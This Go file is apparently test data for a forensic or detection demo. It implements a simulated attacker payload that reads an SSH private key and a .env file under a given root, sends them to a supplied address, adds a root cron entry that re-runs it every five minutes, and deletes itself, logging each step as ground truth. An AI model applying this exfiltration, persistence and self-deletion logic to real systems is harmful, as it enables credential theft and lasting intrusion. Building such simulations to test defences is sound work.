// Payload is what the demo's attacker runs. It is harmless: it reads two made-up
// secrets below its root directory, sends them to a loopback address, writes a
// cron-like file below the root, removes itself and ends.
//
//	payload ROOT ADDR
package main

import (
	"fmt"
	"io"
	"os"
	"path/filepath"

	"hindcast/testdata/demo/truth"
)

func main() {
	if err := run(os.Args[1], os.Args[2]); err != nil {
		fmt.Fprintln(os.Stderr, "payload:", err)
		os.Exit(1)
	}
}

func run(root, addr string) error {
	facts, err := truth.Open("payload")
	if err != nil {
		return err
	}
	self, err := os.Executable()
	if err != nil {
		return err
	}
	var loot []byte
	for _, name := range []string{"home/app/.ssh/id_rsa", "home/app/.env"} {
		b, err := read(facts, filepath.Join(root, name))
		if err != nil {
			return err
		}
		loot = append(loot, b...)
	}
	if err := send(facts, addr, loot); err != nil {
		return err
	}
	if err := persist(facts, filepath.Join(root, "etc/cron.d/updater"), self); err != nil {
		return err
	}
	if facts.On() {
		me, err := truth.Describe("payload", os.Getpid())
		if err != nil {
			return err
		}
		if err := facts.Write(truth.Fact{Kind: truth.File, Did: "unlink", Note: "payload", Path: self, Dev: me.Dev, Ino: me.Ino}); err != nil {
			return err
		}
	}
	return os.Remove(self)
}

func read(facts *truth.Log, path string) ([]byte, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	b, err := io.ReadAll(f)
	if err != nil {
		return nil, err
	}
	return b, facts.Touched(f, "read", "secret", uint64(len(b)), false)
}

func send(facts *truth.Log, addr string, b []byte) error {
	c, err := facts.Dial("", addr, "exfil")
	if err != nil {
		return err
	}
	defer c.Close()
	if _, err := c.Write(b); err != nil {
		return err
	}
	if err := c.CloseWrite(); err != nil {
		return err
	}
	_, err = io.Copy(io.Discard, struct{ io.Reader }{c}) // the answer; the bytes have arrived
	return err
}

func persist(facts *truth.Log, path, self string) error {
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_CREATE|os.O_EXCL, 0o600)
	if err != nil {
		return err
	}
	defer f.Close()
	n, err := fmt.Fprintf(f, "*/5 * * * * root %s\n", self)
	if err != nil {
		return err
	}
	return facts.Touched(f, "write", "persistence", uint64(n), true)
}
